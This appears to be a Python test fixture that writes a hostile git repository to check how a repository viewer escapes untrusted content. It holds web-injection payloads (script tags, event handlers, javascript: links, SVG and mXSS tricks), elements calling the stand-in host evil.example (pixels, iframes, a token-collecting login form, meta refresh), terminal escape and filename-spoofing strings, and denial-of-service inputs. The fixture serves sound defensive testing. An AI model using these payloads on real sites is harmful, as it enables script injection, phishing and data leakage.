"""A repository whose author wants a reader's browser to run, fetch or frame something."""

import os
from pathlib import Path

from tests.support.files import write_files
from tests.support.git import git

CANARY = "window.canary=1"

SCRIPT = f"<script>{CANARY}</script>"

PICTURE = f"<img src=x onerror={CANARY}>"

BREAKS = [
    SCRIPT,
    f'"><svg onload={CANARY}>',
    f"'\"><img src=x onerror={CANARY}>",
    f"</code></pre></textarea></title>{PICTURE}",
    f"{{{{ 7*7 }}}}{{% raw %}}{PICTURE}",
    f"--><iframe srcdoc='{SCRIPT}'>",
    "\u202egnp.exe\u2066\u200b\u00ad",
    "\x1b[31mred\x1b]8;;http://evil.example\x07",
    "x" * 10_000,
]
"""Texts that break out of HTML, of an attribute, of a template, of a line, or of a screen."""

MARKDOWN = f"""# Title {PICTURE}

[a](javascript:{CANARY}) [b](JaVaScRiPt&colon;{CANARY}) [c](java\tscript:{CANARY})
[d](data:text/html,{SCRIPT}) [e](vbscript:x) <javascript:{CANARY}>
![p](https://evil.example/pixel.png) ![q](data:image/svg+xml,<svg/onload={CANARY}>)
![r](evil.svg) <img src="https://evil.example/2.png"> <a href="//evil.example/3">3</a>

{SCRIPT}
<svg onload={CANARY}><animate onbegin={CANARY}></svg>
<iframe src="https://evil.example/"></iframe><object data="https://evil.example/"></object>
<form action="https://evil.example/"><input name="token"><button>Log in</button></form>
<style>@import url(https://evil.example/x.css); body {{ display: none }}</style>
<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">
<link rel="stylesheet" href="https://evil.example/y.css">
<a name="main" id="main">clobber</a> <img name="getElementById">
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={CANARY}&gt;">
<div style="position:fixed;inset:0;background:url(https://evil.example/z.png)">cover</div>

{">" * 1000} deep
{"*" * 20_000}
{"[" * 20_000}
{"`" * 5_001}

```html
{SCRIPT}
```
"""

SVG = f"""<svg xmlns="http://www.w3.org/2000/svg" onload="{CANARY}"><script>{CANARY}</script>
<image href="https://evil.example/s.png"/><foreignObject><body xmlns="http://www.w3.org/1999/xhtml">
{PICTURE.replace(">", "/>")}</body></foreignObject></svg>"""


def write_hostile_tree(root: Path) -> Path:
    """Writes the repository, with a branch and a commit of the same kind; returns its root."""
    files: dict[str, str] = {"README.md": MARKDOWN, "docs/evil.svg": SVG, "evil.svg": SVG}
    for number, text in enumerate(BREAKS):
        quoted = text.replace("\\", "\\\\").replace('"', '\\"').replace("\n", " ")
        files[f"code{number}.js"] = (
            f"/** {text.replace('*/', '')}\n */\nclass Holder{number} {{\n"
            f'  "{quoted}"() {{ return "{quoted}"; }}\n}}\n'
        )
        files[f"doc{number}.md"] = f"# {text}\n\n{text}\n\n    {text}\n"
        files[f"doc{number}.py"] = f'def holder{number}():\n    r"""{text}"""\n'
        name = text[:60].replace("/", "_").replace("\0", "_").strip()
        if name and not name.startswith("-"):
            files[f"{name}/{name}.py"] = f"def in_folder{number}(): pass\n"
    files["nested.md"] = ">" * 1000 + " quote\n"
    files["long.js"] = "var a = [" + "1," * 500_000 + "];\n"
    files["backtrack.rb"] = "x = <<~A + '" + "\\'" * 20_000 + "\n" + "%(" * 5_000
    write_files(root, files)
    (root / "nul.py").write_bytes(b"def before(): pass\n" + b"\0" * 5_000)
    (root / "latin.py").write_bytes(b"# caf\xe9\ndef caf\xe9(): pass\n")
    (root / os.fsdecode(b"not-utf8-\xff.py")).write_bytes(b"def odd(): pass\n")
    git(root, "init", "-q", "-b", "main")
    git(root, "add", "-A")
    git(
        root,
        *("-c", f"user.name={PICTURE}", "-c", "user.email=a@evil.example"),
        *("commit", "-q", "-m", f"{SCRIPT} {PICTURE} \u202e"),
    )
    git(root, "branch", "x<b>y")
    return root
